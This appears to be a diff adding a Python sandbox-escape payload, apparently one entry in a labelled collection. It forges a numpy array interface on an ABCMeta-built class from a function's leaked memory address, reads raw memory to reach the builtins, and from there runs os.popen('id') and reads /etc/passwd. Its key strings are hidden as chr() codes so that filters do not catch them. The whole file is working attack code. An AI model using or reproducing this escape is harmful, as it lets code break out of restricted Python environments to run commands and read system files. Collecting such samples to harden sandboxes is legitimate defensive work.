@@ -1,0 +1,29 @@
+# source: as 010
+# family: from typing import ABCMeta; ABCMeta(name, (), {runtime_key: v})
+# goal: object array at a function's address+24 (func_builtins, address from repr()) -> builtins -> __import__('os').popen('id'), open('/etc/passwd')
+from typing import ABCMeta
+import numpy as np
+
+
+def probe():
+    return 1
+
+
+def w(*codes):
+    return "".join(map(chr, codes))
+
+
+u = chr(95) * 2
+key = u + "array" + chr(95) + "interface" + u
+addr = int(repr(probe).split()[-1].rstrip(">"), 16)
+spec = {"shape": (1,), "typestr": "|O8", "data": (addr + 24, False), "version": 3}
+Z = ABCMeta("Z", (), {key: spec})
+arr = np.asarray(Z)
+bi = arr[0]
+print(type(bi), len(bi))
+imp = bi[u + "import" + u]
+ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
+osm = imp(w(111, 115))
+print(osm)
+print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
+print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:120])
